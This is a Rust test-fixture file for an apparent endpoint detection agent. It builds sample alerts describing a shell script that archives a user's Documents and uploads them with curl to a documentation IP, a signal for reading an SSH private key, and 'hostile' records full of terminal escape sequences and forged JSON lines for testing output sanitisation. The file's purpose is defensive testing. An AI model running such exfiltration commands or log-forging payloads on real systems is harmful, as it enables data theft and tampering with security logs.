//! Records for tests: a script that archived documents and sent them with curl.

use std::{borrow::Cow, sync::Arc, time::Duration};

use super::{
    Action, Alert, Body, Destination, FileSeen, Host, Link, Record, Scale, SignalLine, Totals, Touched,
    graph::{Edge, EdgeKind, Graph, Node},
};
use crate::{
    detect::{Analytic, Content, ContentKind, Object, Signal, Stage},
    event::{Bytes, Coverage, Identity, Ids, Loss, Path, ProcessKey, Remote, Script, ScriptOrigin},
    names::Domain,
    process::Process,
    score::{Verdict, Via, Weighted},
};

/// `CLOCK_REALTIME - CLOCK_BOOTTIME` of the samples.
pub(crate) const BOOT_TO_WALL: i64 = 1_795_000_000_000_000_000;
const SECOND: u64 = 1_000_000_000;

fn at(path: &str) -> Path {
    Path { bytes: Bytes::from(path), truncated: false, unreachable: false }
}

pub(crate) fn process(pid: u32, parent: u32, exe: &str, argv: &[&[u8]]) -> Process {
    let key = |pid: u32| ProcessKey { pid, start_ticks: 95_000 + u64::from(pid) };
    Process {
        key: key(pid),
        parent: Some(key(parent)),
        exe: at(exe),
        argv: argv.iter().map(|argument| Bytes::from(*argument)).collect(),
        cwd: at("/home/alice"),
        ids: Ids { uid: 1000, euid: 1000, gid: 1000, loginuid: 1000, sessionid: 3 },
        identity: Arc::new(Identity {
            container: None,
            unit: Some("session-3.scope".to_owned()),
            user: Some("alice".to_owned()),
            ..Identity::default()
        }),
        ..Process::default()
    }
}

fn script() -> Script {
    Script {
        origin: ScriptOrigin::File,
        path: Bytes::from("/home/alice/collect.sh"),
        sha256: "9f".repeat(32),
        size: 88,
        text: Bytes::from("#!/bin/sh\ntar czf /var/tmp/a.tgz ~/Documents\ncurl -T /var/tmp/a.tgz \"$1\"\n"),
        not_captured: String::new(),
    }
}

pub(crate) fn weighted(
    analytic: Analytic,
    technique: &'static str,
    risk: f64,
    stage: Stage,
    pid: u32,
    object: Object,
    reason: &'static str,
) -> Weighted {
    let subject = ProcessKey { pid, start_ticks: 95_000 + u64::from(pid) };
    let time = 1_001 * SECOND + u64::from(pid);
    let reason = Cow::Borrowed(reason);
    let signal = Signal { analytic, technique, risk, stage, subject, object, time, reason };
    Weighted { signal, decay: 0.987_654_321, trust: 1.0, via: Via::Lineage }
}

pub(crate) fn alert(action: Action, revision: u32, bytes_out: u64) -> Alert {
    let mut shell = process(4200, 900, "/usr/bin/dash", &[b"/bin/sh", b"/home/alice/collect.sh"]);
    shell.script = Some(Arc::new(script()));
    let tar =
        process(4201, 4200, "/usr/bin/tar", &[b"tar", b"czf", b"/var/tmp/a.tgz", b"/home/alice/Documents"]);
    let curl =
        process(4202, 4200, "/usr/bin/curl", &[b"curl", b"-T", b"/var/tmp/a.tgz", b"https://198.51.100.7/"]);
    let (shell, tar, curl) = (Arc::new(shell), Arc::new(tar), Arc::new(curl));
    let link = |process: &Arc<Process>, did: &[&str], bytes_out, read, wrote| Link {
        process: Arc::clone(process),
        did: did.iter().map(|&deed| deed.to_owned()).collect(),
        bytes_out,
        read,
        wrote,
        launcher: false,
    };
    let (none, archive, documents_read) = (Touched::default, || seen("/var/tmp/a.tgz", 1, 12_000_000), 42);
    let documents_read = seen("/home/alice/Documents/plan.pdf", documents_read, 12_600_000);
    let processes = [&shell, &tar, &curl].map(|process| process.key);
    let remote: Remote = "198.51.100.7:443".parse().unwrap();
    let mut own = weighted(
        Analytic::TrafficFlow,
        "T1048.002",
        8.0,
        Stage::Egress,
        4202,
        Object::Destination(remote),
        "it sent more than 5,000,000 bytes to port 443",
    );
    own.via = Via::Own;
    let archived = weighted(
        Analytic::CommandExecution,
        "T1560.001",
        8.0,
        Stage::Staging,
        4201,
        Object::Command(Bytes::from("tar czf /var/tmp/a.tgz /home/alice/Documents")),
        "tar made an archive",
    );
    let documents = weighted(
        Analytic::MassFileAccess,
        "T1119",
        7.0,
        Stage::Collection,
        4201,
        Object::Files(42),
        "42 documents were opened within 2 minutes",
    );
    let content = Content { remote, carried: 12_000_000, sent: bytes_out, kind: ContentKind::Parity };
    let sent = weighted(
        Analytic::TrafficContent,
        "T1020",
        10.0,
        Stage::Egress,
        4202,
        Object::Content(content),
        "sent as many bytes as it carries (12000000)",
    );
    Alert {
        id: "5d41402abc4b2a76b9719d911017c592".to_owned(),
        action,
        revision,
        opened_wall_ns: BOOT_TO_WALL + 1_004_500_000_000,
        verdict: Verdict {
            score: 9.312_345_6,
            uncapped: 9.312_345_6,
            cap: 10.0,
            stages: vec![(Stage::Collection, 0.7), (Stage::Staging, 0.8), (Stage::Egress, 0.8)],
            proof: Some(content),
            signals: vec![own, archived, documents, sent],
        },
        trusted_by: vec![],
        process: Arc::clone(&curl),
        parent: Some(Arc::clone(&shell)),
        chain: vec![
            link(&shell, &["ran the script /home/alice/collect.sh"], 0, none(), none()),
            link(&tar, &["read 42 documents", "wrote /var/tmp/a.tgz"], 0, documents_read, archive()),
            link(&curl, &["read /var/tmp/a.tgz"], bytes_out, archive(), none()),
        ],
        graph: graph(processes, remote, bytes_out),
        scale: Scale { threshold: 8.0, half_life: Duration::from_mins(30) },
        destinations: vec![Destination {
            remote,
            protocol: 6,
            bytes_out,
            domains: vec![domain("drop.example", true)],
            place: None,
        }],
        source: Some("198.51.100.1:40112".parse().unwrap()),
        files: vec![FileSeen {
            path: Bytes::from("/var/tmp/a.tgz"),
            size: 12_000_000,
            why: "staging, written by tar".to_owned(),
        }],
        files_more: 42,
        bytes_collected: 12_000_000,
        bytes_out,
        process_bytes_out: bytes_out,
        coverage: vec!["open.io_uring: off".to_owned()],
        boot_to_wall_ns: BOOT_TO_WALL,
    }
}

/// `count` files, of which one is listed.
fn seen(path: &str, count: u64, bytes: u64) -> Touched {
    let file = FileSeen { path: Bytes::from(path), size: bytes / count, why: "document".to_owned() };
    Touched { files: vec![file], count, bytes }
}

/// The script, tar and curl; the documents, the archive, the destination.
fn graph(processes: [ProcessKey; 3], remote: Remote, bytes_out: u64) -> Graph {
    let mut nodes: Vec<Node> = processes.into_iter().map(Node::Process).collect();
    nodes.extend([
        Node::Files { place: Bytes::from("/home/alice/Documents"), count: 42, bytes: 12_600_000 },
        Node::File { path: Bytes::from("/var/tmp/a.tgz"), size: 12_000_000 },
        Node::Destination { remote, protocol: 6 },
    ]);
    let edge = |from, to, kind, bytes, after: u64| Edge {
        from,
        to,
        kind,
        bytes,
        first: Some(1_000 * SECOND + after * SECOND / 10),
    };
    let edges = vec![
        edge(0, 1, EdgeKind::Forked, None, 0),
        edge(3, 1, EdgeKind::Read, Some(12_600_000), 1),
        edge(1, 4, EdgeKind::Wrote, Some(12_000_000), 2),
        edge(0, 2, EdgeKind::Forked, None, 30),
        edge(4, 2, EdgeKind::Read, Some(12_000_000), 31),
        edge(2, 5, EdgeKind::Sent, Some(bytes_out), 32),
    ];
    Graph { nodes, edges, ..Graph::default() }
}

fn domain(name: &str, vouched: bool) -> Domain {
    Domain { name: name.into(), server: Some("198.51.100.53".parse().unwrap()), vouched }
}

pub(crate) fn signal() -> SignalLine {
    let alert = alert(Action::Opened, 1, 0);
    let sender = &alert.chain[1];
    let mut sensitive = weighted(
        Analytic::SensitiveFileAccess,
        "T1552.004",
        8.0,
        Stage::Collection,
        4201,
        Object::File(Bytes::from("/home/alice/.ssh/id_ed25519")),
        "it read a private key",
    );
    sensitive.via = Via::Own;
    SignalLine {
        signal: sensitive,
        process: Arc::clone(&sender.process),
        parent: Some(Arc::clone(&alert.chain[0].process)),
        domains: vec![],
        place: None,
        score: 4.0,
        boot_to_wall_ns: BOOT_TO_WALL,
    }
}

pub(crate) fn record(body: Body) -> Record {
    let host = Host {
        name: "web-1".to_owned(),
        kernel: "6.12.0".to_owned(),
        boot_id: "8b2f6c1e-0000-4000-8000-000000000001".to_owned(),
        agent_version: "0.1.0".to_owned(),
    };
    Record { wall_ns: BOOT_TO_WALL + 1_005_000_000_001, host: Arc::new(host), body }
}

pub(crate) fn totals() -> Totals {
    Totals {
        events: 12_345,
        signals: 7,
        alerts: 1,
        open_alerts: 0,
        evicted: 0,
        lost: 3,
        bytes_out: 12_000_456,
        processes: 210,
        flows: 12,
    }
}

/// One of each kind, by name.
pub(crate) fn all() -> Vec<(&'static str, Record)> {
    let sensor = |sensor: &str, hook: &str, gap: &str, reason: &str| Coverage {
        sensor: sensor.to_owned(),
        hook: hook.to_owned(),
        gap: gap.to_owned(),
        reason: reason.to_owned(),
    };
    let coverage = vec![
        sensor("exec", "tp_btf sched_process_exec", "", ""),
        sensor("open.io_uring", "", "files opened through io_uring", "the tracepoint is missing"),
    ];
    let losses = vec![Loss { what: "open_dropped".to_owned(), count: 12 }];
    let bodies = [
        ("opened", Body::Alert(Box::new(alert(Action::Opened, 1, 5_000_123)))),
        ("updated", Body::Alert(Box::new(alert(Action::Updated, 2, 10_000_246)))),
        ("closed", Body::Alert(Box::new(alert(Action::Closed, 3, 12_000_456)))),
        ("hostile", Body::Alert(Box::new(hostile()))),
        ("signal", Body::Signal(Box::new(signal()))),
        ("start", Body::Start { coverage }),
        ("stop", Body::Stop { reason: "SIGTERM".to_owned(), totals: totals() }),
        ("heartbeat", Body::Heartbeat { totals: totals() }),
        ("gap", Body::Gap { losses }),
    ];
    bodies.into_iter().map(|(name, body)| (name, record(body))).collect()
}

/// The alert of a process that tries to forge lines, move the cursor and turn the reading direction.
pub(crate) fn hostile() -> Alert {
    let evil: &[u8] = b"\x1b[2J\"}\n{\"event\":{\"kind\":\"state\"}}\xff\xfe\0\xe2\x80\xaegpj.\\";
    let mut process = process(66, 1, "/tmp/x", &[b"x", evil, b""]);
    process.exe.bytes = Bytes::from([b"/tmp/".as_slice(), evil].concat());
    process.exe.truncated = true;
    process.exe_unlinked = true;
    process.argv_truncated = true;
    process.cwd.bytes = Bytes::from(evil);
    process.ids.euid = 0;
    process.identity = Arc::new(Identity {
        container: Some("3f\u{1b}c".to_owned()),
        unit: None,
        user: Some("root\nroot".to_owned()),
        ..Identity::default()
    });
    process.script = Some(Arc::new(Script {
        origin: ScriptOrigin::CommandLine,
        path: Bytes::default(),
        text: Bytes::from(evil),
        not_captured: "the process was \u{7f} gone".to_owned(),
        ..script()
    }));
    let process = Arc::new(process);
    let mut alert = alert(Action::Opened, 1, 6_000_000);
    let evil_file = FileSeen { path: Bytes::from(evil), size: 1, why: "\u{1b}[31m".to_owned() };
    let touched = Touched { files: vec![evil_file], count: 1, bytes: 1 };
    alert.chain = vec![Link {
        process: Arc::clone(&process),
        did: vec!["wrote\n\u{1b}[31m".to_owned()],
        bytes_out: 9,
        read: touched.clone(),
        wrote: touched,
        launcher: false,
    }];
    alert.graph = graph([process.key; 3], "198.51.100.7:443".parse().unwrap(), 9);
    alert.graph.nodes[4] = Node::File { path: Bytes::from(evil), size: 1 };
    alert.files[0].path = Bytes::from(evil);
    alert.destinations[0].domains =
        vec![domain("a\u{1b}[31m.example", false), domain(&"x".repeat(1000), false)];
    alert.trusted_by = vec!["a\rb".to_owned()];
    alert.parent = None;
    alert.source = None;
    alert.process = process;
    alert
}

/// More of everything than a line can hold.
pub(crate) fn monstrous() -> Alert {
    let long = "\"\\\u{1b}é".repeat(4_000);
    let mut alert = hostile();
    let arguments: Vec<&[u8]> = vec![long.as_bytes(); 12];
    let mut process = process(66, 1, "/tmp/x", &arguments);
    process.exe.bytes = Bytes::from(long.as_str());
    process.cwd.bytes = Bytes::from(long.as_str());
    process.identity = Arc::new(Identity {
        container: Some(long.clone()),
        unit: Some(long.clone()),
        user: Some(long.clone()),
        ..Identity::default()
    });
    process.script = Some(Arc::new(Script {
        text: Bytes::from(long.as_str()),
        path: Bytes::from(long.as_str()),
        ..script()
    }));
    let process = Arc::new(process);
    let file = FileSeen { path: Bytes::from(long.as_str()), size: 1, why: long.clone() };
    let touched = Touched { files: vec![file; 2], count: u64::MAX, bytes: u64::MAX };
    let link = Link {
        process: Arc::clone(&process),
        did: vec!["\"\\".repeat(500); 50],
        bytes_out: u64::MAX,
        read: touched.clone(),
        wrote: touched,
        launcher: false,
    };
    alert.graph.nodes = vec![Node::File { path: Bytes::from(long.as_str()), size: 1 }; 64];
    alert.graph.edges = vec![alert.graph.edges[0]; 192];
    alert.chain = vec![link; 300];
    for (index, link) in alert.chain.iter_mut().enumerate() {
        let mut own = (*process).clone();
        own.key.pid = u32::try_from(index).unwrap();
        link.process = Arc::new(own);
    }
    let mut signal = alert.verdict.signals[1].clone();
    signal.signal.reason = Cow::Owned(long.clone());
    signal.signal.object = Object::Command(Bytes::from(long.as_str()));
    alert.verdict.signals = vec![signal; 600];
    alert.files[0].path = Bytes::from(long.as_str());
    alert.files[0].why = long.clone();
    alert.files = vec![alert.files[0].clone(); 600];
    alert.destinations = vec![alert.destinations[0].clone(); 2000];
    alert.trusted_by = vec![long.clone(); 300];
    alert.coverage = vec![long.clone(); 300];
    alert.parent = Some(Arc::clone(&process));
    alert.process = process;
    alert.id = long;
    alert
}
